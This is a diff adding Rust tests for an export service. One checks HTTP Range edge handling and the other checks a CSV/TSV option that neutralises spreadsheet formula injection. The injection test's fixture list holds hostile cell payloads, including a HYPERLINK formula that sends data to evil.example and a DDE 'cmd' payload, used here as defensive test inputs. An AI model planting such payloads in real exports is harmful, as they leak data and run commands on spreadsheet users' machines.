@@ -1043,6 +1043,233 @@ async fn downloads_honour_ranges_conditionals_and_head() {
     }
 }
 
+/// Ranges at the edges of `u64` and of the file answer as RFC 9110 says: a last
+/// position past the end (even `u64::MAX` or more digits than `u64` holds) is 206 up
+/// to the end, a suffix longer than the file is the whole file, a start past the end
+/// or an invalid range is 416 with `bytes */size`; nothing wraps, panics or answers 5xx.
+#[tokio::test]
+async fn range_edges_answer_206_or_416_and_never_wrap() {
+    let svc = Service::start().await;
+    some_clicks(&svc, ACME, 10).await;
+    let (job, parts) = svc.export(ACME, &clicks_request("csv", "none")).await;
+    let url = job["parts"][0]["url"].as_str().unwrap();
+    let body = &parts[0];
+    let size = body.len();
+    let max = u64::MAX;
+    for (range, start) in [
+        (format!("bytes=0-{max}"), 0),
+        (format!("bytes=7-{max}"), 7),
+        (format!("bytes=0-{}", max - 1), 0),
+        ("bytes=3-99999999999999999999999999999".to_string(), 3),
+        (format!("bytes=-{max}"), 0),
+        ("bytes=-99999999999999999999999999999".to_string(), 0),
+    ] {
+        let resp = send(svc.get(url, ACME).header("range", range.as_str())).await;
+        assert_eq!(resp.status(), 206, "{range}");
+        assert_eq!(
+            header(&resp, "content-range"),
+            Some(format!("bytes {start}-{}/{size}", size - 1)),
+            "{range}"
+        );
+        assert_eq!(resp.bytes().await.unwrap(), body[start..], "{range}");
+    }
+    for range in [
+        format!("bytes={max}-"),
+        format!("bytes={max}-{max}"),
+        format!("bytes={size}-{max}"),
+        "bytes=99999999999999999999999999999-".to_string(),
+        "bytes=9-3".to_string(),
+        "bytes=abc".to_string(),
+        "bytes=-".to_string(),
+        "bytes=+1-2".to_string(),
+        "bytes=1-2-3".to_string(),
+    ] {
+        let resp = send(svc.get(url, ACME).header("range", range.as_str())).await;
+        assert_eq!(
+            header(&resp, "content-range"),
+            Some(format!("bytes */{size}")),
+            "{range}"
+        );
+        let (status, _) = problem(resp).await;
+        assert_eq!(status, 416, "{range}");
+    }
+    // Several ranges (one overflowing) or garbage after the unit: the whole file.
+    for range in [format!("bytes=0-1,5-{max}"), "pages=1-2".to_string()] {
+        let resp = send(svc.get(url, ACME).header("range", range.as_str())).await;
+        assert_eq!(resp.status(), 200, "{range}");
+        assert_eq!(resp.bytes().await.unwrap(), body[..], "{range}");
+    }
+    // The server is still answering normally.
+    let resp = send(svc.get(url, ACME)).await;
+    assert_eq!(resp.status(), 200);
+}
+
+/// `csv_excel_safe: true` neutralises CSV injection for spreadsheet users: a text
+/// value (String, Nullable(String), LowCardinality(String)) starting with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return gets a leading `'` in CSV and TSV; numbers (a
+/// negative one too), NULLs, enums and values with such characters elsewhere are
+/// untouched. Off by default, so the same export round-trips the stored text exactly;
+/// JSON formats refuse it (422).
+#[tokio::test]
+async fn csv_excel_safe_neutralises_formula_cells_and_is_off_by_default() {
+    let schemas = schema_dir();
+    let svc = Service::start_with(
+        Options::default().env("LOGPORT_SCHEMA_DIR", schemas.path().to_str().unwrap()),
+    )
+    .await;
+    let hostile = [
+        "=1+1",
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+SUM(A1:A9)",
+        "-2+3",
+        "@cmd|' /C calc'!A0",
+        "\t=tab first",
+        "\r=cr first",
+        "plain",
+        "a=b+c-d@e",
+        "",
+        "'=already quoted",
+        "é=not first",
+    ];
+    let rows: Vec<Value> = hostile
+        .iter()
+        .enumerate()
+        .map(|(i, text)| {
+            probe(
+                i as u32 + 1,
+                json!({"text": text, "label": text, "signed": -(i as i64) - 1,
+                       "ratio": -0.5, "text_null": if i % 2 == 0 { Value::Null } else { json!(text) }}),
+            )
+        })
+        .collect();
+    svc.ingest(ACME, "bi_probe", &rows).await;
+    let fields = [
+        "probe_id",
+        "text",
+        "text_null",
+        "label",
+        "signed",
+        "ratio",
+        "kind",
+    ];
+    let request = |format: &str, safe: Option<bool>| {
+        let mut r = json!({"slice": "bi_probe", "date_since": "2026-11-05",
+                           "date_until": "2026-11-05", "fields": fields, "format": format});
+        if let Some(safe) = safe {
+            r["csv_excel_safe"] = json!(safe);
+        }
+        r
+    };
+    let neutral = |s: &str| {
+        if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+            format!("'{s}")
+        } else {
+            s.to_string()
+        }
+    };
+    let by_id = |records: Vec<Vec<String>>| {
+        records
+            .into_iter()
+            .map(|r| (r[0].clone(), r))
+            .collect::<BTreeMap<_, _>>()
+    };
+
+    // CSV, with and without the option.
+    for safe in [Some(true), Some(false), None] {
+        let (job, parts) = svc.export(ACME, &request("csv", safe)).await;
+        assert_eq!(
+            job["request"]["csv_excel_safe"],
+            safe.map_or(Value::Null, Value::from)
+        );
+        let (header, records) = parse_csv(&parts.concat());
+        assert_eq!(header, fields);
+        let got = by_id(records);
+        assert_eq!(got.len(), hostile.len());
+        for (i, text) in hostile.iter().enumerate() {
+            let row = &got[&format!("p{:02}", i + 1)];
+            let want = |s: &str| {
+                if safe == Some(true) {
+                    neutral(s)
+                } else {
+                    s.to_string()
+                }
+            };
+            assert_eq!(row[1], want(text), "{safe:?} text of {text:?}");
+            assert_eq!(row[3], want(text), "{safe:?} label of {text:?}");
+            let null_or = if i % 2 == 0 {
+                String::new()
+            } else {
+                want(text)
+            };
+            assert_eq!(row[2], null_or, "{safe:?} text_null of {text:?}");
+            assert_eq!(
+                row[4],
+                format!("-{}", i + 1),
+                "a negative number stays a number"
+            );
+            assert_eq!(row[5], "-0.5");
+            assert_eq!(row[6], "visit");
+        }
+    }
+
+    // TSV: the same values in ClickHouse's escaping (a tab is `\t`, a CR `\r`, a
+    // quote `\'`), so no raw cell starts with a formula character either.
+    let unescape = |cell: &str| {
+        let mut out = String::new();
+        let mut chars = cell.chars();
+        while let Some(c) = chars.next() {
+            if c != '\\' {
+                out.push(c);
+                continue;
+            }
+            match chars.next() {
+                Some('t') => out.push('\t'),
+                Some('r') => out.push('\r'),
+                Some('n') => out.push('\n'),
+                Some(other) => out.push(other),
+                None => out.push('\\'),
+            }
+        }
+        out
+    };
+    let (_, parts) = svc.export(ACME, &request("tsv", Some(true))).await;
+    let text = String::from_utf8(parts.concat()).unwrap();
+    let mut lines = text.lines();
+    assert_eq!(lines.next().unwrap(), fields.join("\t"));
+    let got: BTreeMap<String, Vec<String>> = lines
+        .map(|l| {
+            let cells: Vec<String> = l.split('\t').map(String::from).collect();
+            (cells[0].clone(), cells)
+        })
+        .collect();
+    assert_eq!(got.len(), hostile.len());
+    for (i, text) in hostile.iter().enumerate() {
+        let row = &got[&format!("p{:02}", i + 1)];
+        assert!(
+            !row[1].starts_with(['=', '+', '-', '@']),
+            "raw tsv cell {:?}",
+            row[1]
+        );
+        assert_eq!(unescape(&row[1]), neutral(text), "tsv text of {text:?}");
+        assert_eq!(unescape(&row[3]), neutral(text), "tsv label of {text:?}");
+        assert_eq!(row[4], format!("-{}", i + 1));
+    }
+
+    // Not for JSON.
+    for format in ["jsonl", "json", "parquet"] {
+        let (status, body) = problem(
+            send(
+                svc.post("/v1/exports", ACME)
+                    .json(&request(format, Some(true))),
+            )
+            .await,
+        )
+        .await;
+        assert_eq!(status, 422, "{format}: {body}");
+        assert_eq!(body["field"], "csv_excel_safe", "{body}");
+    }
+}
+
 // ---------------------------------------------------------------------------------
 // Deleting, expiring and sweeping files
 // ---------------------------------------------------------------------------------
